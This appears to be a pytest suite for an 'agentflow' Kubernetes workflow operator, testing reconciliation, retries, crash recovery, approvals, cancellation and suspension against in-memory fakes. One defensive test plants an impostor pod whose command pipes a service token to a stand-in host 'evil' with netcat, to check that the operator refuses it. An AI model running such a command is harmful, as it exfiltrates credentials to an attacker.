"""The Workflow reconcile against an in-memory API server and journal store.

The fakes keep what a real API server and PostgreSQL keep (pods by name,
results first-wins, journal fenced by sequence), so crash-and-restart cases
exercise the same paths as in a cluster.
"""

from __future__ import annotations

import copy
from collections.abc import Callable, Mapping
from typing import Any

import pytest

from agentflow.engine.values import StepError, StepResult
from agentflow.k8s import names
from agentflow.k8s.kube import KubeError
from agentflow.k8s.podspec import PodConfig
from agentflow.models import Catalog, ToolPolicy
from agentflow.services.errors import InvalidWorkflow, MissingReferences
from agentflow.services.reconcile import WorkflowReconciler
from agentflow.testing import SIGNING_KEY, FakeKube, MemoryStore, decided_by

KEY = b"k" * 32


def catalog() -> Catalog:
    c = Catalog()
    c.add(ToolPolicy.model_validate({"apiVersion": "agentflow.dev/v1alpha1", "kind": "ToolPolicy",
                                     "metadata": {"name": "tools"},
                                     "spec": {"tools": [{"name": "echo", "builtin": {"name": "echo"}}]}}))
    return c


def workflow(spec: dict[str, Any], *, annotations: dict[str, str] | None = None) -> dict[str, Any]:
    return {"apiVersion": "agentflow.dev/v1alpha1", "kind": "Workflow",
            "metadata": {"name": "wf", "namespace": "team", "uid": "0b5e7c1a-0000-4000-8000-000000000001",
                         "generation": 1, "annotations": annotations or {}},
            "spec": copy.deepcopy(spec)}


FANOUT = {
    "inputs": {"docs": ["a", "b", "c"]},
    "steps": [
        {"name": "first", "kind": "tool", "tool": "echo"},
        {"name": "map", "kind": "tool", "tool": "echo", "dependsOn": ["first"], "forEach": "inputs.docs",
         "parallelism": 2, "inputs": {"doc": "${{ item }}"}},
        {"name": "last", "kind": "tool", "tool": "echo", "dependsOn": ["map"],
         "inputs": {"all": "${{ steps.map.output }}"}},
    ],
}


class Cluster:
    """The fakes plus a kubelet that 'runs' pods by storing a result, as the step runtime would."""

    def __init__(self, behaviour: Callable[[str, int, Mapping[str, Any]], StepResult | str] | None = None) -> None:
        self.kube = FakeKube()
        self.store = MemoryStore()
        self.now = 1000.0
        self.behaviour = behaviour or (lambda node, attempt, inputs: StepResult(output={"node": node, **inputs}))
        self.executions: list[tuple[str, int]] = []
        self.reconciler = self.new_reconciler()

    def new_reconciler(self) -> WorkflowReconciler:
        return WorkflowReconciler(self.kube, self.store,
                                  PodConfig(image="runtime:dev", callback_url="http://10.88.0.1:8081"),
                                  signing_key=SIGNING_KEY, clock=lambda: self.now)

    def kubelet(self) -> None:
        for pod in self.kube.pods.values():
            if pod["status"]["phase"] != "Pending":
                continue
            uid = pod["metadata"]["labels"][names.RUN_LABEL]
            node = pod["metadata"]["annotations"][names.NODE_ANNOTATION]
            attempt = int(pod["metadata"]["labels"][names.ATTEMPT_LABEL])
            payload = self.store.attempts[(uid, node, attempt)]
            self.executions.append((node, attempt))
            result = self.behaviour(node, attempt, payload["request"]["inputs"])
            if isinstance(result, str):  # the pod dies without a result
                pod["status"] = {"phase": "Failed", "reason": result, "message": "The node was low on memory."}
                continue
            self.store.results.setdefault((uid, node, attempt), result.to_dict())
            pod["status"] = {"phase": "Succeeded"}

    async def run(self, body: dict[str, Any], rounds: int = 50) -> Any:
        outcome = None
        for _ in range(rounds):
            outcome = await self.reconciler.reconcile(body, catalog())
            if outcome.finished:
                return outcome
            self.kubelet()
            self.now += 1.0
        return outcome


async def test_a_fan_out_workflow_runs_to_success_with_one_pod_per_attempt() -> None:
    c = Cluster()
    outcome = await c.run(workflow(FANOUT))
    assert outcome.phase == "Succeeded"
    assert sorted(c.executions) == [("first", 1), ("last", 1), ("map[0]", 1), ("map[1]", 1), ("map[2]", 1)]
    assert len(c.kube.created) == len(set(c.kube.created)) == 5
    final = c.kube.statuses[-1]
    assert final["phase"] == "Succeeded" and final["progress"] == "3/3"
    assert {x["type"]: x["status"] for x in final["conditions"]}["Succeeded"] == "True"
    last_inputs = c.store.attempts[("0b5e7c1a-0000-4000-8000-000000000001", "last", 1)]["request"]["inputs"]
    assert [o["doc"] for o in last_inputs["all"]] == ["a", "b", "c"]
    # Succeeded pods are cleaned up (the default policy keeps only failures).
    assert not c.kube.pods
    # progress is told in few Events (k8s.events.coalesce), in order, the last one saying how it ended
    assert c.kube.events[-1]["reason"] == "Succeeded"
    told = "; ".join(e["message"] for e in c.kube.events)
    assert told.index("step first attempt 1 succeeded") < told.index("step last attempt 1 succeeded")
    assert told.endswith("workflow wf succeeded")


async def test_api_writes_per_step_stay_within_budget() -> None:
    c = Cluster()
    writes = 0
    body = workflow(FANOUT)
    for _ in range(50):
        outcome = await c.reconciler.reconcile(body, catalog())
        writes += outcome.api_writes
        if outcome.finished:
            break
        c.kubelet()
        c.now += 1.0
    assert writes / 5 <= 10, writes


@pytest.mark.parametrize("crash_after", range(1, 9))
async def test_a_restarted_operator_never_starts_a_step_twice(crash_after: int) -> None:
    c = Cluster()
    body = workflow(FANOUT)
    for i in range(crash_after):
        if i == crash_after - 1:
            c.kube.fail_creates = 1  # the API call after the journal write fails: the process "dies"
        try:
            await c.reconciler.reconcile(body, catalog())
        except KubeError:
            break
        c.kubelet()
        c.now += 1.0
    c.reconciler = c.new_reconciler()  # a new process: nothing in memory, same journal and cluster
    outcome = await c.run(body)
    assert outcome.phase == "Succeeded"
    assert len(c.executions) == len(set(c.executions)) == 5
    assert all(attempt == 1 for _, attempt in c.executions)


async def test_an_evicted_pod_is_retried_as_a_new_attempt() -> None:
    def behaviour(node: str, attempt: int, inputs: Mapping[str, Any]) -> StepResult | str:
        return "Evicted" if (node, attempt) == ("first", 1) else StepResult(output=node)

    c = Cluster(behaviour)
    spec = {**FANOUT, "retry": {"limit": 2, "backoff": {"initialSeconds": 1, "jitter": 0}}}
    outcome = await c.run(workflow(spec))
    assert outcome.phase == "Succeeded"
    assert ("first", 2) in c.executions
    # the failed attempt's pod is kept for inspection (keep on failure)
    assert any(n.endswith("-a1-" + n.rsplit("-", 1)[1]) and "first" in n for n in c.kube.pods)


async def test_a_failing_step_fails_the_run_with_its_message() -> None:
    c = Cluster(lambda n, a, i: StepResult(error=StepError("Boom", "tool said no", retryable=False)))
    outcome = await c.run(workflow({"steps": [{"name": "only", "kind": "tool", "tool": "echo"}]}))
    assert outcome.phase == "Failed"
    status = c.kube.statuses[-1]
    assert "tool said no" in status["message"]
    assert {x["type"]: x["status"] for x in status["conditions"]}["Failed"] == "True"


async def test_approval_by_annotation_is_journaled_and_cleared() -> None:
    spec = {"steps": [{"name": "ask", "kind": "approval", "approval": {"message": "ok?"}},
                      {"name": "go", "kind": "tool", "tool": "echo", "dependsOn": ["ask"]}]}
    c = Cluster()
    body = workflow(spec)
    outcome = await c.run(body, rounds=3)
    assert not outcome.finished and c.kube.statuses[-1]["phase"] == "Waiting"
    body["metadata"]["annotations"] = decided_by(body, names.APPROVE_ANNOTATION, '{"node": "ask", "reason": "ok"}',
                                                 "alice")
    outcome = await c.run(body)
    assert outcome.phase == "Succeeded"
    # Cleared once taken; a pass that still sees it (a view from before the clear) clears it again, silently.
    assert c.kube.patches and all(p == {"metadata": {"annotations": {names.APPROVE_ANNOTATION: None,
                                                                     names.REJECT_ANNOTATION: None}}}
                                  for p in c.kube.patches)
    assert not [e for e in c.kube.events if e["type"] == "Warning"]
    journal = c.store.journals["0b5e7c1a-0000-4000-8000-000000000001"]
    decided = [r.event for r in journal if r.event.type.value == "ApprovalDecided"]
    assert decided[0].data == {"approved": True, "by": "alice", "groups": [], "reason": "ok"}


@pytest.mark.parametrize(("value", "why"), [
    ('{"node": "ask", "by": "alice", "reason": "ok"}', "not set through the operator's admission webhook"),
    ("ask", "not set through the operator's admission webhook"),
    ("{not json", "not valid JSON"),
])
async def test_an_unstamped_or_malformed_decision_is_refused_with_a_warning_and_removed(value: str, why: str) -> None:
    spec = {"steps": [{"name": "ask", "kind": "approval", "approval": {"message": "ok?"}}]}
    c = Cluster()
    body = workflow(spec)
    await c.run(body, rounds=3)
    body["metadata"]["annotations"] = {names.APPROVE_ANNOTATION: value}
    outcome = await c.run(body, rounds=3)
    assert not outcome.finished and c.kube.statuses[-1]["phase"] == "Waiting"
    warned = [e["message"] for e in c.kube.events if e["type"] == "Warning"]
    assert any(why in m for m in warned), warned
    assert {names.APPROVE_ANNOTATION: None, names.REJECT_ANNOTATION: None} in [
        p["metadata"]["annotations"] for p in c.kube.patches]
    journal = c.store.journals["0b5e7c1a-0000-4000-8000-000000000001"]
    assert not [r for r in journal if r.event.type.value == "ApprovalDecided"]


async def test_a_decision_by_someone_the_started_run_does_not_list_as_approver_is_refused() -> None:
    spec = {"steps": [{"name": "ask", "kind": "approval", "approval": {"approvers": ["leads"]}}]}
    c = Cluster()
    body = workflow(spec)
    await c.run(body, rounds=3)
    original = copy.deepcopy(body)
    # The spec now names mallory (the webhook would refuse this request; here it was let through).
    body["spec"]["steps"][0]["approval"]["approvers"] = ["mallory"]
    changed = copy.deepcopy(body)
    body["metadata"]["annotations"] = decided_by(changed, names.APPROVE_ANNOTATION, "ask", "mallory")
    outcome = await c.run(body, rounds=3)
    assert not outcome.finished
    assert any("mallory is not among the approvers of ask (leads)" in e["message"] for e in c.kube.events)
    body["metadata"]["annotations"] = decided_by(original, names.APPROVE_ANNOTATION, "ask", "bob", ("leads",))
    assert (await c.run(body, rounds=3)).phase == "Succeeded"


async def test_spec_cancel_deletes_running_pods_and_ends_cancelled() -> None:
    c = Cluster()
    body = workflow(FANOUT)
    await c.reconciler.reconcile(body, catalog())
    assert c.kube.pods
    body["spec"]["cancel"] = True
    outcome = await c.run(body)
    assert outcome.phase == "Cancelled"
    assert c.kube.deleted
    assert c.executions == []


async def test_an_invalid_workflow_is_reported_not_run() -> None:
    c = Cluster()
    bad = workflow({"steps": [{"name": "a", "kind": "tool", "tool": "echo", "dependsOn": ["b"]},
                              {"name": "b", "kind": "tool", "tool": "echo", "dependsOn": ["a"]}]})
    with pytest.raises(InvalidWorkflow, match="cycle"):
        await c.reconciler.reconcile(bad, catalog())
    assert not c.kube.pods


async def test_missing_references_wait_instead_of_failing() -> None:
    c = Cluster()
    body = workflow({"steps": [{"name": "a", "kind": "tool", "tool": "not-yet-declared"}]})
    with pytest.raises(MissingReferences, match="not-yet-declared"):
        await c.reconciler.reconcile(body, catalog())
    assert not c.kube.pods


async def test_suspend_holds_new_pods_until_resumed() -> None:
    c = Cluster()
    body = workflow(FANOUT)
    await c.reconciler.reconcile(body, catalog())  # "first" starts
    body["spec"]["suspend"] = True
    for _ in range(3):
        c.kubelet()
        c.now += 1.0
        await c.reconciler.reconcile(body, catalog())
    assert [n for n, _ in c.executions] == ["first"]
    assert c.kube.statuses[-1]["phase"] == "Suspended"
    body["spec"]["suspend"] = False
    outcome = await c.run(body)
    assert outcome.phase == "Succeeded"


async def test_a_pod_made_by_someone_else_under_an_attempts_name_never_acts_for_it() -> None:
    spec = {"steps": [{"name": "only", "kind": "tool", "tool": "echo"}]}
    c = Cluster()
    body = workflow(spec)
    await c.reconciler.reconcile(body, catalog())
    (name,) = c.kube.pods
    ours = c.kube.pods[name]
    # The operator restarts before it saw its pod; meanwhile the tenant replaced it with one of its own.
    c.reconciler = c.new_reconciler()
    c.store.pod_uids.clear()
    impostor = copy.deepcopy(ours)
    impostor["metadata"]["uid"] = "uid-of-the-impostor"
    impostor["spec"]["containers"][0]["command"] = ["sh", "-c", "cat /var/run/agentflow/token | nc evil 80"]
    c.kube.pods[name] = impostor
    outcome = await c.reconciler.reconcile(body, catalog())
    assert outcome.phase == "Failed"
    assert "PodConflict" in c.kube.statuses[-1]["message"]
    assert c.store.pod_uids == {}  # the impostor's uid was never recorded: its token is refused


async def test_the_operators_own_pod_found_after_a_restart_is_recorded() -> None:
    spec = {"steps": [{"name": "only", "kind": "tool", "tool": "echo"}]}
    c = Cluster()
    body = workflow(spec)
    await c.reconciler.reconcile(body, catalog())
    c.reconciler = c.new_reconciler()
    c.store.pod_uids.clear()  # it stopped between creating the pod and recording its uid
    outcome = await c.run(body)
    assert outcome.phase == "Succeeded"
    assert len(c.store.pod_uids) == 1
